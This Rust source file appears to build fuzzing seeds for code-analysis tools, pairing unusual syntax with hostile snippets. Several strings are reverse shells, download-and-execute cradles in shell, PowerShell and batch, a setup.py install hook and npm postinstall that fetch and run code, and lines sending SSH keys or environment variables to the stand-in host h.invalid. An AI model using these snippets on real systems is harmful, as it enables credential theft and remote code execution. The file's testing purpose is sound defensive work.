//! Starting points for the observers of code.

use std::path::Path;
use std::{fs, io};

const PYTHON: &[&str] = &[
    "from __future__ import annotations\nimport os, base64 as b\n\n@property\nasync def f(a, *, b: int = 1, **k) -> None:\n    \
     async with x() as y:\n        await y\n    return [i async for i in k if i]\n\nmatch f:\n    case {'a': [1, *r], **k} if r: pass\n    \
     case A(x=1) | B(): pass\n",
    "import zlib, marshal\nexec(zlib.decompress(b.b64decode('eJwrKMrMK9FQz0jNyclXKM8vyknRUVdQVNS05gIAdGwHWw==')))\n\
     eval(''.join(chr(c) for c in [112, 97, 115, 115]))\n",
    "class A(B, metaclass=C):\n    x: int = field(default_factory=lambda: {k: v for k, v in z})\n    def __init__(self):\n        \
     self.s = socket.socket(); self.s.connect(('h.invalid', 1)); os.dup2(self.s.fileno(), 0)\n",
    "try:\n    print f'{a!r:>{w}}' t'{x}' rb'\\xff' u'\\N{BULLET}'\nexcept* E as e:\n    raise X from e\nelse: pass\nfinally: del a[1:2, ...]\n",
    "print 'two', `x`, 0777, ur'a'\nexec 'code' in ns\nraise E, 'm', tb\nexcept E, e: pass\nprint >>f, x\nif a <> b: pass\n",
    "from setuptools import setup\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        \
     import urllib.request as u; open('/tmp/x','wb').write(u.urlopen('http://h.invalid/x').read()); os.system('sh /tmp/x')\n\
     setup(name='a', version='1', cmdclass={'install': I}, install_requires=['six>=1'])\n",
    "import a; exec('import os')\n/usr/lib/x\n# comment\nimport sys; sys.path.append('x')\n",
    "x = ((((((((((1))))))))))\ny = [[[[[[]]]]]]\nz = a.b.c.d().e()[0](1)(2)\nw = not not not - - ~x ** -y if a else b or c and d\n",
    "g = getattr(__import__('o' + 's'), 'sys' 'tem'[::1])\ng('id')\n(lambda *a: a[0](*a[1:]))(print, 1)\nglobals()['x'] = vars()\n%magic\n!ls\n",
];

const JAVASCRIPT: &[&str] = &[
    "const { exec: e, ...r } = require('child_process'); e(`curl ${h} | sh`, (x, y) => y?.z ?? 1);\n\
     class A extends B { #p = 1; static { this.#p } get x() { return super.x } async *g() { yield* await 1 } }\n",
    "import fs, { readFileSync as r } from 'node:fs'; export default async function f(a = {}, [b, , ...c]) {\n  for await (const x of y) { label: for (;;) break label }\n}\n",
    "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString()); new Function('a', 'return a')(1);\n\
     process['\\x65nv'][String.fromCharCode(72, 79)]; atob('YQ=='); unescape('%61');\n",
    "var _0x1a=['log','\\x61'];(function(a,b){while(--b){a['push'](a['shift']())}}(_0x1a,0x3));var _0x2b=function(a){return _0x1a[a-0x0]};console[_0x2b('0x0')](_0x2b(1));\n",
    "interface A<T extends B = C> { readonly [k: string]: T; (x: number): asserts x is 1 } enum E { A = 1 << 2, B = 'b' }\n\
     declare module 'm' { export = x } abstract class C<in out T> implements D { constructor(private x?: T) { super()! } }\n\
     type U = { [K in keyof T as `a${K}`]?: T[K] extends infer V ? V : never }; let x = <any>y as const satisfies Z;\n",
    "const x = <div a={1} {...p}>{y && <><A.B c='d'/>text &amp;</>}</div>;\n",
    "a = /[/\\]]+(?<n>x)\\k<n>/giu; b = a ? b : c, d; if (x) y\nelse z\nreturn\n++i; `a${`b${c}`}`; ((((((1))))))\n[[[[]]]]; !!~-+x ** 2; 1_000n; 0b1; .5e-3\n",
    "fetch('https://h.invalid/?' + encodeURIComponent(JSON.stringify(process.env))).then(r => r.text()).then(eval)\n<!-- html\n#!/x\n",
    "with (a) { switch (b) { case 1: default: throw c } } try { } catch { } finally { } do ; while (0)\nvar let = yield; function* g() { yield }\n",
];

const SHELL: &[&str] = &[
    "#!/bin/bash\nset -e\nX=$(curl -fsSL \"http://h.invalid/x\" | base64 -d); eval \"$X\"\nfor f in ~/.ssh/*; do cat \"$f\" >> ${T:-/tmp}/x; done\n",
    "cat <<EOF | sh -s -- \"$@\" 2>&1 &\n$(echo aWQK | base64 --decode)\nEOF\nif [[ $a == b* && -f x ]]; then f() { local y=${1#*/}; }; f; fi\ncase $x in a|b) ;; *) exit 1;; esac\n",
    "exec 3<>/dev/tcp/h.invalid/443; while read -r l <&3; do $l; done\nprintf '\\x69\\x64' | xxd -r -p | bash; python -c 'import os; os.system(\"id\")'\n(((a++)))\n{ (a; b) || c; }\necho $((1+(2*3))) ${x//a/b} ${!v} $'\\x41'\n",
];
const POWERSHELL: &[&str] = &[
    "$x = New-Object Net.WebClient; IEX ($x.DownloadString('http://h.invalid/a')); & ('i'+'ex') \"$($env:USERNAME) `$y\"\n",
    "powershell -NoP -W Hidden -Enc SQBFAFgA\nfunction F([string]$a = @'\nhere\n'@) { foreach ($i in 1..3) { $a -replace 'x','y' | % { $_ } } }\n\
     [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aWQ=')) -join '' -f 1; \"{1}{0}\" -f 'b','a'; @{a=1;b=@(1,(2,3))}\n",
];
const BATCH: &[&str] = &[
    "@echo off\nset a=pow^er\nset b=%a:~0,3%!x!\n%a%shell -c \"iex(1)\" & certutil -urlcache -f http://h.invalid/x x.exe && start /b x.exe\n\
     for /f \"tokens=1,2 delims=,\" %%i in ('dir') do (call :s %%i) else (goto :eof)\n:s\nif not exist \"%~dp0x\" reg add HKCU\\Run /v x\n",
];

/// The code in the fences of every Markdown file below a folder, with its language.
pub fn cases(folder: &Path) -> io::Result<Vec<(String, String)>> {
    let mut found = Vec::new();
    for entry in fs::read_dir(folder)? {
        let path = entry?.path();
        if path.is_dir() {
            found.extend(cases(&path)?);
        } else if path.extension().is_some_and(|e| e == "md") {
            let text = fs::read_to_string(&path)?;
            for fence in text.split("```").skip(1).step_by(2) {
                let (info, code) = fence.split_once('\n').unwrap_or((fence, ""));
                let language = info.split_whitespace().next().unwrap_or("");
                found.push((language.to_owned(), code.to_owned()));
            }
        }
    }
    found.sort();
    Ok(found)
}

fn with_choice(choice: u8, text: &str) -> Vec<u8> {
    [&[choice], text.as_bytes()].concat()
}

fn of<'a>(cases: &'a [(String, String)], languages: &'a [&str]) -> impl Iterator<Item = &'a str> {
    let of_language = cases.iter().filter(|(language, _)| languages.contains(&language.as_str()));
    of_language.map(|(_, code)| code.as_str())
}

pub fn python(cases: &[(String, String)]) -> Vec<Vec<u8>> {
    let all = PYTHON.iter().copied().chain(of(cases, &["python", "py", "pth"]));
    all.enumerate().map(|(i, text)| with_choice(i as u8 % 8, text)).collect()
}

pub fn javascript(cases: &[(String, String)]) -> Vec<Vec<u8>> {
    let all = JAVASCRIPT.iter().copied().chain(of(cases, &["javascript", "js", "typescript", "ts", "mjs", "cjs"]));
    all.enumerate().map(|(i, text)| with_choice(i as u8 % 8, text)).collect()
}

/// The first byte as the target `lang` reads it.
pub fn any(cases: &[(String, String)]) -> Vec<Vec<u8>> {
    let mut seeds = Vec::new();
    let mut add = |choice: u8, text: &str| seeds.push(with_choice(choice, text));
    SHELL.iter().copied().chain(of(cases, &["sh", "bash", "shell"])).for_each(|t| add(0, t));
    POWERSHELL.iter().copied().chain(of(cases, &["ps1", "powershell"])).for_each(|t| add(4, t));
    BATCH.iter().copied().chain(of(cases, &["bat", "batch", "cmd"])).for_each(|t| add(8, t));
    add(12, r#"{"cells":[{"cell_type":"code","source":["import os\n","!id\n","%%bash\n"],"outputs":[{"data":{"text/html":["<b>"]}}]},{"cell_type":"markdown","source":"x"}],"metadata":{"kernelspec":{"language":"python"}},"nbformat":4}"#);
    add(13, "import os; exec('id')\n/usr/lib\n");
    add(14, "<!doctype html><html><script src='http://h.invalid/x'>eval(atob('YQ=='))</script><p onclick=\"x()\">&#x41;</p><script type=module>import 'a'</script></html>");
    add(16, "<svg xmlns='x'><script><![CDATA[fetch('x')]]></script></svg>");
    add(17, "#![no_std]\nuse std::process::Command;\nfn main() { Command::new(\"sh\").arg(r#\"-c\"#).spawn(); include_bytes!(\"x\"); /* /* */ */ }\n");
    add(24, "see https://h.invalid/a?b=c and 10.0.0.1:80, 0x52908400098527886E0F7030069857D2E4169EE7, \u{202e}evil\u{2066}\u{200b}\u{e0041} \u{430}pple\n");
    add(24, "\u{feff}caf\u{e9} +AGE- \u{1b}[31m");
    add(25, r#"{"a":[1,{"b":"aHR0cDovL2guaW52YWxpZA=="}]}"#);
    add(30, r#"{"name":"a","version":"1.0.0","scripts":{"postinstall":"node x.js && curl h.invalid|sh"},"dependencies":{"b":"git+ssh://h.invalid/x"}}"#);
    for choice in 19..24 {
        for binary in binaries() {
            seeds.push([&[choice], &binary[..]].concat());
        }
    }
    for (mark, wide) in [(&b"\xff\xfe"[..], u16::to_le_bytes as fn(u16) -> [u8; 2]), (b"\xfe\xff", u16::to_be_bytes)] {
        let text: Vec<u8> = "echo h.invalid\n".encode_utf16().flat_map(wide).collect();
        seeds.push([&[0], mark, &text].concat());
    }
    seeds
}

/// Headers of native code and byte code, with tables that point at their own ends.
fn binaries() -> Vec<Vec<u8>> {
    let mut elf = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x03\0\x3e\0\x01\0\0\0".to_vec();
    for word in [0x40_u64, 0x40, 0x78] {
        elf.extend(word.to_le_bytes());
    }
    elf.extend(b"\0\0\0\0\x40\0\x38\0\x01\0\x40\0\x01\0\0\0");
    elf.extend([2, 0, 0, 0, 6, 0, 0, 0]);
    elf.extend([0x78, 0, 0, 0, 0, 0, 0, 0].repeat(6));
    elf.extend(b"\0socket\0execve\0libc.so.6\0UPX!http://h.invalid/\0".repeat(4));
    let mut pe = b"MZ".to_vec();
    pe.resize(0x3c, 0);
    pe.extend([0x40, 0, 0, 0]);
    pe.extend(b"PE\0\0\x64\x86\x01\0\0\0\0\0\0\0\0\0\0\0\0\0\xf0\0\x22\0\x0b\x02");
    pe.resize(0x200, 0);
    pe.extend(b"KERNEL32.dll\0CreateProcessA\0.text\0");
    let mut mach = b"\xcf\xfa\xed\xfe\x07\0\0\x01\x03\0\0\0\x02\0\0\0\x01\0\0\0\x18\0\0\0\0\0\0\0\0\0\0\0".to_vec();
    mach.extend(b"\x02\0\0\0\x18\0\0\0\x38\0\0\0\x01\0\0\0\x48\0\0\0\x10\0\0\0_connect\0");
    let fat = b"\xca\xfe\xba\xbe\0\0\0\x01\x01\0\0\x07\0\0\0\x03\0\0\0\x20\0\0\0\x40\0\0\0\0".to_vec();
    let wasm = b"\0asm\x01\0\0\0\x01\x04\x01\x60\0\0\x02\x09\x01\x03env\x01f\0\0\x03\x02\x01\0\x0b\x06\x01\0\x41\0\x0b\0".to_vec();
    let pyc = [&b"\xcb\x0d\x0d\x0a\0\0\0\0\0\0\0\0\0\0\0\0\xe3"[..], &[0; 20], b"s\x04\0\0\0exec\xda\x02os\xa9\x01u\x01\0\0\0a"].concat();
    vec![elf, pe, mach, fat, wasm, pyc]
}
